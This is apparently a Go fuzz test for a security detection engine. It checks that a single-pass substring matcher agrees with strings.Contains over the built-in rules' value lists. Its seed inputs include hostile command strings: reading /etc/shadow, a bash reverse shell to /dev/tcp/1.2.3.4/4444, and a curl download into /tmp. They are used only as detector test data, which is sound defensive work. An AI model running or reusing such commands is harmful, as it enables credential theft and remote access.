package detect

import (
	"strings"
	"testing"
)

// FuzzMultiContains: the one-scan matcher finds a value exactly when one of
// strings.Contains over the values would, for the built-in rules' lists.
func FuzzMultiContains(f *testing.F) {
	e, err := New(Options{})
	if err != nil {
		f.Fatal(err)
	}
	type pair struct {
		m    *multiContains
		vals []string
	}
	var ms []pair
	for _, r := range e.Rules() {
		if r.det == nil {
			continue
		}
		for _, s := range r.det.searches {
			for _, fm := range s.maps {
				for _, x := range fm {
					if x.multi == nil {
						continue
					}
					var vals []string
					for _, l := range x.multi.starts {
						vals = append(vals, l...)
					}
					ms = append(ms, pair{x.multi, vals})
				}
			}
		}
	}
	if len(ms) == 0 {
		f.Fatal("no multi matchers in the built-in rules")
	}
	for _, s := range []string{"sh -c cat /etc/shadow", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "curl -o /tmp/x http://10.0.0.1/y", "ls", ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, p := range ms {
			want := false
			for _, v := range p.vals {
				if strings.Contains(s, v) {
					want = true
					break
				}
			}
			if got := p.m.match(s); got != want {
				t.Fatalf("match(%q) = %v, strings.Contains says %v (values %q)", s, got, want, p.vals)
			}
		}
	})
}
